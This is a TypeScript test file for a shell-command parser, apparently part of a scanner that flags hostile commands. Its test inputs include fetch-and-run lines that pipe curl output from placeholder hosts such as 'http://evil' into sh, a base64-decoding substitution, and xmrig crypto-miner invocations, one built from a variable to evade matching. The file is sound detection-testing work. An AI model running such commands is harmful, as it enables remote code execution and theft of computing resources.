import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { commandName, expandAssignments, inlineScriptIndex, parseShell, shellScriptIndexes } from '../../src/threat/shell.js';
import { cpuMs } from '../helpers/cpu-time.js';

const words = (script: string): string[][] => parseShell(script).commands.map((c) => [...c.words]);

describe('parseShell', () => {
  it('splits commands on operators and newlines and marks pipes', () => {
    const script = parseShell('curl -s http://x/a | sh; echo done && ls\nwget y');
    assert.deepEqual(script.commands.map((c) => [c.words[0], c.piped]), [['curl', false], ['sh', true], ['echo', false], ['ls', false], ['wget', false]]);
  });

  it('removes quotes, joins escaped newlines and keeps quoted separators inside words', () => {
    assert.deepEqual(words(`echo 'a; b' "c | d" e\\\nf`), [['echo', 'a; b', 'c | d', 'ef']]);
  });

  it('drops assignments and wrappers before the command name', () => {
    assert.deepEqual(words('FOO=1 nohup nice -n 19 ./xmrig -o x'), [['./xmrig', '-o', 'x']]);
    assert.deepEqual(words('timeout 10m sudo /tmp/a'), [['/tmp/a']]);
  });

  it('collects command substitution bodies and skips comments', () => {
    const script = parseShell('# curl http://evil | sh\nX="$(echo aGk= | base64 -d)" `id`');
    assert.deepEqual(script.substitutions, ['echo aGk= | base64 -d', 'id']);
    assert.ok(!script.commands.some((c) => c.words[0] === 'curl'));
  });

  it('survives unterminated quotes and parentheses', () => {
    assert.doesNotThrow(() => parseShell(`echo "abc $(ls 'x`));
  });
});

describe('command helpers', () => {
  it('names commands by basename, lower-cased', () => {
    assert.equal(commandName('/opt/XMRig'), 'xmrig');
    assert.equal(commandName('./t-rex'), 't-rex');
  });

  it('finds the inline script of sh -c and bash -ec', () => {
    assert.equal(inlineScriptIndex(['sh', '-c', 'echo hi']), 2);
    assert.equal(inlineScriptIndex(['/bin/bash', '-ec', 'echo hi', 'arg0']), 2);
    assert.equal(inlineScriptIndex(['python3', '-c', 'print(1)']), 2);
    assert.equal(inlineScriptIndex(['sh', 'run.sh']), -1);
    assert.equal(inlineScriptIndex(['xmrig', '-c', 'config.json']), -1);
  });

  it('finds every chained shell script of a KFP v2 component', () => {
    assert.deepEqual([...shellScriptIndexes(['sh', '-c', 'pip install x && "$0" "$@"', 'sh', '-ec', 'program', 'code'])], [2, 5]);
    assert.deepEqual([...shellScriptIndexes(['python3', '-c', 'print(1)'])], []);
  });

  it('reads || and && inside [[ … ]] as operators of the test, not command separators', () => {
    assert.deepEqual(words('if [[ -f a || -n "$B" ]] && [[ $M == x && ( -d c || -d d ) ]]; then python t.py; fi'), [
      ['[[', '-f', 'a', '||', '-n', '$B', ']]'],
      ['[[', '$M', '==', 'x', '&&', '(', '-d', 'c', '||', '-d', 'd', ')', ']]'],
      ['python', 't.py'],
      ['fi'],
    ]);
    // Outside a test the same operators still separate commands.
    assert.deepEqual(words('true || ./xmrig -o p && echo x'), [['true'], ['./xmrig', '-o', 'p'], ['echo', 'x']]);
    // `[[` that is an argument does not start a test.
    assert.deepEqual(words('echo [[ || ./x'), [['echo', '[['], ['./x']]);
  });

  it('keeps a command substitution inside [[ … ]] for reading', () => {
    assert.deepEqual(parseShell('[[ -z "$(curl -s http://192.0.2.1/x | sh)" || -f y ]]').substitutions, ['curl -s http://192.0.2.1/x | sh']);
  });

  it('expands assigned variables up to a cap and says when it stopped', () => {
    const assignments = new Map([['a', 'x'.repeat(80 * 1024)]]);
    const expanded = expandAssignments(`a=...; ./run ${'$a'.repeat(2_000)}`, assignments, 1024 * 1024);
    assert.equal(expanded?.clipped, true);
    assert.equal(expanded?.text.length, 1024 * 1024);
    assert.deepEqual(expandAssignments('b=rig; xm$b', new Map([['b', 'rig']])), { text: 'b=rig; xmrig', clipped: false });
  });

  it('reads a long word in time linear in its length', async () => {
    const text = `echo ${'a'.repeat(5_000_000)}`;
    const read = await cpuMs(() => parseShell(text));
    assert.equal(read.value.commands[0]?.words[1]?.length, 5_000_000);
    assert.ok(read.ms < 3_000, `${read.ms} ms of CPU`);
  });
});
